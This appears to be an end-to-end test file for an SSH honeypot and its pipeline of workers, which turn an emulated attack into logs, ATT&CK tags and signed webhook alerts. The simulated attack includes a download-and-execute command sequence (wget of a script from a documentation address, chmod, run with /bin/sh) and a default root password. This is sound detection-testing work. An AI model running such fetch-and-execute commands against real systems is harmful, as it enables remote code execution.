// Issue 6: a real OpenSSH client logs in to the ssh emulator and runs a download-and-execute
// sequence; the workers turn it into `logs` rows, an `attackers` row, ATT&CK tags (T1105 for the
// download, T1059 for the shell execution) and a signed alert at an HTTP receiver the operator
// allowed. Once with each worker a standalone process on Kafka, once inside `decnet up`.
import { chmodSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EVENTS, silentLogger } from '@decnet/core';
import { testConfig } from '@decnet/core/testing';
import { attackers as attackersTable, logs, openDatabase, ttp_tag, type Database } from '@decnet/db';
import { tableRows } from '@decnet/db/testing';
import { createScratchDatabase, type ScratchDatabase } from '@decnet/testing/postgres';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  bundle,
  decnet,
  ensureCommands,
  freePort,
  runCommand,
  startHttpReceiver,
  startProcess,
  startServiceBundle,
  tcpOpen,
  verifyWebhookSignature,
  waitFor,
  workersStatus,
  type HttpReceiver,
  type Proc,
  type ReceivedRequest,
} from './harness.js';

const WORKERS = ['collector', 'ingester', 'profiler', 'ttp', 'webhook'] as const;
/** A documentation address (RFC 5737): the fake shell never fetches anything. */
const PAYLOAD_URL = 'http://203.0.113.50/x.sh';
/** What the attacker types: fetch a script, make it executable, run it through a shell. */
const ATTACK = ['cd /tmp', `wget ${PAYLOAD_URL} -O /tmp/x.sh`, 'chmod +x /tmp/x.sh', '/bin/sh -c /tmp/x.sh'];
/** The pattern a user subscribes to for "a technique was seen" alerts. */
const ALERT_PATTERN = EVENTS.ttpRuleFired.pattern;
const SSH_OPTS = [
  '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR',
  '-o', 'ConnectTimeout=20', '-o', 'NumberOfPasswordPrompts=1', '-o', 'PreferredAuthentications=password',
];

let home: string;
let scratch: ScratchDatabase | undefined;
let database: Database | undefined;
let receiver: HttpReceiver | undefined;
const procs: Proc[] = [];

beforeAll(async () => {
  await Promise.all([
    ensureCommands({ ssh: 'openssh-client', sshpass: 'sshpass' }),
    bundle(['cli', 'service-ssh', ...WORKERS.map((w) => `worker-${w}`)]),
  ]);
}, 600_000);

afterEach(async () => {
  // A failed test leaves its processes behind: they must not outlive it.
  await Promise.all(procs.splice(0).map((p) => p.kill('SIGKILL')));
  await receiver?.close();
  await database?.close();
  await scratch?.drop();
  receiver = undefined;
  database = undefined;
  scratch = undefined;
  if (home) rmSync(home, { recursive: true, force: true });
});

/** The parts every variant shares: a migrated scratch database, the receiver and its subscription. */
async function prepare(env: Record<string, string | undefined>): Promise<{ env: Record<string, string | undefined>; secret: string }> {
  home = mkdtempSync(join(tmpdir(), 'attack-to-alert-'));
  chmodSync(home, 0o755);
  scratch = await createScratchDatabase();
  receiver = await startHttpReceiver();
  const full: Record<string, string | undefined> = {
    ...env,
    DATABASE_URL: scratch.url,
    DECNET_HOME: home,
    DECNET_LOG_LEVEL: 'info',
    DECNET_HEALTH_INTERVAL_MS: '500',
    // The receiver is on loopback, which the SSRF guard refuses unless the operator allows it.
    DECNET_WEBHOOK_ALLOW_CIDRS: '127.0.0.1/32',
  };
  const migrated = await decnet(['db', 'migrate'], full);
  expect(migrated.code, migrated.stderr).toBe(0);
  const added = await decnet(['webhook', 'add', 'soc', `http://127.0.0.1:${receiver.port}/decnet`, '--pattern', ALERT_PATTERN, '--json'], full);
  expect(added.code, added.stderr).toBe(0);
  // Without --secret one is generated and shown once: the receiver's operator keeps it.
  const { secret } = JSON.parse(added.stdout) as { secret: string };
  expect(secret).toMatch(/^[A-Za-z0-9_-]{32,}$/);
  database = await openDatabase(testConfig({ DATABASE_URL: scratch.url }), silentLogger, { retry: false, poolMax: 2 });
  return { env: full, secret };
}

/** Waits until every worker reports running and has made progress (subscriptions in place). */
async function waitForFleet(env: Record<string, string | undefined>, seconds: number | undefined, shown: Proc[]): Promise<void> {
  let last: unknown;
  await waitFor(
    async () => {
      for (const p of shown) if (p.child.exitCode !== null) throw new Error(`${p.name} exited with ${p.child.exitCode}`);
      const status = await workersStatus(env, seconds);
      last = status;
      const ready = new Set((status ?? []).filter((w) => w.state === 'running' && w.lastProgressAgoS !== null).map((w) => w.worker));
      return WORKERS.every((w) => ready.has(w));
    },
    120_000,
    shown,
  ).catch((err: unknown) => {
    throw new Error(`fleet not ready; last status: ${JSON.stringify(last)}\n${(err as Error).message}`, { cause: err });
  });
}

/** The attack: OpenSSH with the catalog's root password, an interactive shell, the commands, exit. */
async function attack(port: number): Promise<void> {
  const r = await runCommand('sshpass', ['-p', 'admin', 'ssh', ...SSH_OPTS, '-tt', '-p', String(port), 'root@127.0.0.1'], {
    input: `${ATTACK.join('\n')}\nexit\n`,
    timeoutMs: 60_000,
  });
  expect(r.timedOut).toBe(false);
  expect(r.code, r.stderr).toBe(0);
  expect(r.stdout).toContain('root@e2e-web-01:/tmp# ');
}

/** The stored log rows of the attacker at 127.0.0.1. */
const attackLogs = async () => tableRows(database as Database, logs, { match: { attacker_ip: '127.0.0.1' }, orderBy: [logs.id] });

/** Everything the issue asks for, awaited: logs, the attacker, its tags, and verified alerts. */
async function expectAttackToAlert(env: Record<string, string | undefined>, secret: string, shown: Proc[]): Promise<void> {
  // Each worker runs at its own pace (the ttp worker can tag from the collector's session before
  // the ingester stored every line), so wait for all of it before looking closely.
  await waitFor(
    async () => {
      const stored = await attackLogs();
      const state = {
        commands: stored.filter((r) => r.event_type === 'command').length,
        downloads: stored.filter((r) => r.event_type === 'download_attempt').length,
        lines: stored.length,
        folded: (await tableRows(database as Database, attackersTable, { match: { ip: '127.0.0.1' } }))[0]?.event_count ?? null,
        techniques: new Set((await tableRows(database as Database, ttp_tag)).map((t) => t.technique_id).filter((t) => t === 'T1105' || t === 'T1059')).size,
      };
      return state.commands >= ATTACK.length + 1 && state.downloads >= 1 && state.folded === state.lines && state.techniques === 2;
    },
    120_000,
    shown,
  );

  const commands = (await attackLogs())
    .filter((r) => r.service === 'ssh' && r.event_type === 'command')
    .map((r) => ({ cmd: r.fields.cmd, decky: r.decky }));
  // In the order typed, though the fake shell stamps a typed-ahead burst within a millisecond or
  // two: the ingester writes batches in arrival order, one after another.
  expect(commands.map((c) => c.cmd)).toEqual([...ATTACK, 'exit']);
  expect(new Set(commands.map((c) => c.decky))).toEqual(new Set(['e2e-decky']));
  const downloads = (await attackLogs())
    .filter((r) => r.event_type === 'download_attempt')
    .map((r) => ({ url: r.fields.url ?? null, tool: r.fields.tool ?? null }));
  expect(downloads).toEqual([{ url: PAYLOAD_URL, tool: 'wget' }]);
  expect((await attackLogs()).filter((r) => r.event_type === 'auth_attempt' && r.fields.outcome === 'success').length).toBe(1);

  const attackers = (await tableRows(database as Database, attackersTable)).map((a) => ({
    uuid: a.uuid,
    ip: a.ip,
    services: a.services,
    deckies: a.deckies,
    credential_count: a.credential_count,
    commands: a.commands as { command: string }[],
  }));
  expect(attackers).toHaveLength(1);
  const attacker = attackers[0] as (typeof attackers)[number];
  expect(attacker).toMatchObject({ ip: '127.0.0.1', services: ['ssh'], deckies: ['e2e-decky'], credential_count: 1 });
  // The profile keeps that order (by time, then logs.id).
  expect(attacker.commands.map((c) => c.command)).toEqual([...ATTACK, 'exit']);

  const tags = (await tableRows(database as Database, ttp_tag, { orderBy: [ttp_tag.rule_id] }))
    .filter((t) => t.technique_id === 'T1105' || t.technique_id === 'T1059')
    .map((t) => ({ uuid: t.uuid, technique_id: t.technique_id, rule_id: t.rule_id, attacker_uuid: t.attacker_uuid, evidence: t.evidence as { command_text?: string } }));
  expect(tags.every((t) => t.attacker_uuid === attacker.uuid)).toBe(true);
  expect(tags.find((t) => t.technique_id === 'T1105')?.evidence.command_text).toBe(ATTACK[1]);
  expect(tags.filter((t) => t.technique_id === 'T1059').map((t) => t.evidence.command_text)).toContain(ATTACK[3]);

  // The subscription matches every ttp.rule.fired.<technique>: one alert each.
  const recv = receiver as HttpReceiver;
  const alertFor = (technique: string): ReceivedRequest | undefined => recv.requests.find((r) => r.headers['x-decnet-event-topic'] === EVENTS.ttpRuleFired.subject(technique));
  await waitFor(async () => alertFor('T1105') !== undefined && alertFor('T1059') !== undefined, 60_000, shown);
  for (const technique of ['T1105', 'T1059']) {
    const req = alertFor(technique) as ReceivedRequest;
    expect(req.method).toBe('POST');
    expect(req.path).toBe('/decnet');
    expect(req.headers['content-type']).toBe('application/json');
    const timestamp = req.headers['x-decnet-timestamp'] as string | undefined;
    const signature = req.headers['x-decnet-signature'] as string | undefined;
    const check = (over: { secret?: string; timestamp?: string | undefined; body?: string }) =>
      verifyWebhookSignature({ secret, timestamp, signature, body: req.body, nowS: req.receivedS, ...over });
    expect(check({})).toBe(true);
    // What the signature is for: any change to the body, the timestamp or the key fails it.
    expect(check({ body: req.body.replace(attacker.uuid, '00000000-0000-4000-8000-000000000000') })).toBe(false);
    expect(check({ body: `${req.body} ` })).toBe(false);
    expect(check({ timestamp: String(Number(timestamp) + 1) })).toBe(false);
    expect(check({ secret: `${secret}x` })).toBe(false);
    const body = JSON.parse(req.body) as { id: string; topic: string; payload: Record<string, unknown> };
    expect(req.headers['x-decnet-event-id']).toBe(body.id);
    expect(body.topic).toBe(EVENTS.ttpRuleFired.subject(technique));
    expect(body.payload).toMatchObject({ technique_id: technique, attacker_uuid: attacker.uuid });
    expect([...(body.payload.tag_uuids as string[])].sort()).toEqual(tags.filter((t) => t.technique_id === technique).map((t) => t.uuid).sort());
  }
  // The operator sees the deliveries succeed where they look (`decnet webhook list`).
  await waitFor(
    async () => {
      const listed = await decnet(['webhook', 'list', '--json'], env);
      if (listed.code !== 0) return false;
      const subs = JSON.parse(listed.stdout) as { name: string; enabled: boolean; consecutiveFailures: number; lastSuccessAt: string | null }[];
      return subs.length === 1 && subs[0]?.name === 'soc' && subs[0].enabled && subs[0].consecutiveFailures === 0 && subs[0].lastSuccessAt !== null;
    },
    30_000,
    shown,
  );
}

/** Once everything has stopped, nothing more can arrive: one alert per technique, none repeated. */
function expectOneAlertPerTechnique(): void {
  const topics = (receiver as HttpReceiver).requests.map((r) => r.headers['x-decnet-event-topic']);
  expect(topics.sort()).toEqual([EVENTS.ttpRuleFired.subject('T1059'), EVENTS.ttpRuleFired.subject('T1105')]);
}

describe('attack to alert: OpenSSH → ssh emulator → workers → signed webhook', () => {
  it('works with each worker a standalone process on Kafka', async () => {
    const brokers = process.env.KAFKA_BROKERS;
    if (!brokers) throw new Error('KAFKA_BROKERS unset: add tools/testing/kafka-setup.ts to globalSetup');
    const collectorPort = await freePort();
    const { env, secret } = await prepare({
      DECNET_BUS: 'kafka',
      KAFKA_BROKERS: brokers,
      DECNET_KAFKA_PREFIX: `e2e-alert-${process.pid}`,
      DECNET_COLLECTOR_PORT: String(collectorPort),
    });
    const workers = WORKERS.map((w) => startProcess(w, [`dist/workers/${w}/main.js`], { ...env, DECNET_INSTANCE_ID: `${w}-e2e` }));
    procs.push(...workers);
    await waitFor(() => tcpOpen(collectorPort), 60_000, workers);
    // Heartbeats come every 500 ms; a few seconds of listening also covers joining the group.
    await waitForFleet(env, 4, workers);

    const ssh = await startSshEmulator(collectorPort);
    await attack(ssh.port);
    await expectAttackToAlert(env, secret, [...workers, ssh.proc]);

    expect(await ssh.proc.kill('SIGTERM')).toBe(0);
    const codes = await Promise.all(workers.map(async (p) => [p.name, await p.kill('SIGTERM')]));
    expect(codes).toEqual(WORKERS.map((w) => [w, 0]));
    expectOneAlertPerTechnique();
  });

  it('works with the workers inside `decnet up` on the in-memory bus', async () => {
    const collectorPort = await freePort();
    const { env, secret } = await prepare({
      DECNET_BUS: 'memory',
      KAFKA_BROKERS: undefined,
      DECNET_COLLECTOR_PORT: String(collectorPort),
    });
    const up = startProcess('decnet-up', ['apps/cli/bin/decnet.js', 'up', '--workers', WORKERS.join(',')], env);
    procs.push(up);
    await waitFor(() => tcpOpen(collectorPort), 60_000, [up]);
    // Attack once every worker is in place, as an operator would after `decnet up` settles.
    await waitForFleet(env, undefined, [up]);

    const ssh = await startSshEmulator(collectorPort);
    await attack(ssh.port);
    await expectAttackToAlert(env, secret, [up, ssh.proc]);

    expect(await ssh.proc.kill('SIGTERM')).toBe(0);
    expect(await up.kill('SIGTERM')).toBe(0);
    expectOneAlertPerTechnique();
  });
});

/** The ssh emulator as a decky runs it, sending its events to the collector over TCP. */
async function startSshEmulator(collectorPort: number): Promise<{ proc: Proc; port: number }> {
  const started = await startServiceBundle('ssh', 'SSH_PORT', {
    NODE_NAME: 'e2e-decky',
    SSH_HOSTNAME: 'e2e-web-01',
    SSH_HOST_KEY_DIR: join(home, 'ssh-host-keys'),
    // One key type keeps start-up quick (RSA generation is slow on a loaded machine).
    SSH_HOST_KEY_TYPES: 'ed25519',
    LOG_TARGET: `127.0.0.1:${collectorPort}`,
  });
  procs.push(started.proc);
  return started;
}
